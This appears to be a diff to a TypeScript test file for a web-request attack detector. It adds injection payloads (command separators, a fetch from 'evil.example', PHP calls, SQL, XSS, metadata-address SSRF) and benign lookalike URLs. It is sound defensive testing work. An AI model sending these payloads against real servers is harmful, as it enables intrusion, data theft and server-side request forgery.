@@ -52,6 +52,34 @@ const ATTACKS: ReadonlyArray<readonly [string, string, string?]> = [
   ['scanner', '/', 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)'],
   ['generic', '/api?__proto__[admin]=true'],
   ['generic', '/fetch?url=http://169.254.169.254/latest/meta-data/'],
+  // Broad families: command words after separators, PHP functions before a call, JSON and cast SQL syntax.
+  ['rce', '/run?cmd=x%0auname -a'], // a line break separates commands
+  ['rce', '/run?cmd=x;aria2c http://evil.example/a'],
+  ['rce', '/run?cmd=whoami;id'],
+  ['rce', '/run?cmd=x%26regedit /s evil.reg'],
+  ['rce', '/run?cmd=for /f %i in (users.txt) do echo %i'],
+  ['rce', '/run?cmd=if exist c:\\boot.ini echo yes'],
+  ['rce', '/run?x=ls ~-'], // tilde expansion to the previous directory
+  ['rce', '/run?x={,cat,/etc/hosts}'],
+  ['rce', '/run?x=a%0d%0aRETR 1'],
+  ['rce', '/', 'whoami'], // a User-Agent that is a command
+  ['php', '/run?x=fsockopen(%22evil%22,80)'],
+  ['php', '/run?x=posix_getuid%20%28%29'],
+  ['php', '/run?x=exec%23c%0a(ls)'],
+  ['php', '/run?x=$f($_GET[1])'],
+  ['php', '/run?x=%22system%22(ls)'], // a function named by a string
+  ['php', '/run?x=%5Bphp%5Decho 1'],
+  ['sqli', "/item?id=1' or 1 glob 1--"],
+  ['sqli', '/item?id=unistr(a)::int'],
+  ['sqli', "/item?id='{\"a\":1}' @> data"],
+  ['xss', '/search?q=%3Cf o r m action=x%3E'],
+  ['xss', '/search?q=x%22 onpointerrawupdate=f()'],
+  ['generic', '/run?x=while(true){}'],
+  ['generic', '/run?x=_$$ND_FUNC$$_function(){}'],
+  ['generic', '/fetch?u=http://[0:0:0:0:0:ffff:a9fe:a9fe]/'],
+  ['generic', '/fetch?u=http://2852039166/'],
+  ['generic', '/api?a[constructor][prototype][admin]=1'],
+  ['session_fixation', '/login?weblogicsession=abc123'],
 ];
 
 const BENIGN: readonly string[] = [
@@ -74,6 +102,25 @@ const BENIGN: readonly string[] = [
   '/api/v1/orders/42?fields=id,total,items&filter[status]=shipped',
   '/search?q=c%2B%2B+programming&page=3',
   '/blog/2024/05/why-we-use-and-or-not?lang=en',
+  // Lookalikes of the broad families: command and function names as words, not code.
+  '/search?q=cat+toys%3B+dog+toys',
+  '/search?q=copy+paper+(500+sheets)',
+  '/search?q=print+(a4)+and+file+(pdf)',
+  '/search?q=time+who+cares+tee',
+  '/search?q=for+you+in+(red)',
+  '/search?q=if+sizes+differ',
+  '/search?q=while+(stocks+last)',
+  '/search?q=%24+price+(usd)',
+  '/search?q=array+of+lights',
+  "/search?q=O'Reilly's+guide",
+  '/search?q=rock+%27n%27+roll',
+  '/blog/for-loops-explained?if=1',
+  '/products?sort=price%7Ctop&filter[size]=m',
+  '/redirect?next=https://shop.example/cart',
+  '/search?q=a+%22dog%22+%28not+a+cat%29',
+  '/feed?style=%3C%3Fxml-stylesheet+href%3D%22a.xsl%22%3F%3E',
+  '/search?q=size+10%3D1',
+  '/checkout/success?session_id=cs_test_a1b2c3', // payment providers return to the shop with their session id
 ];
 
 describe('detectors', () => {
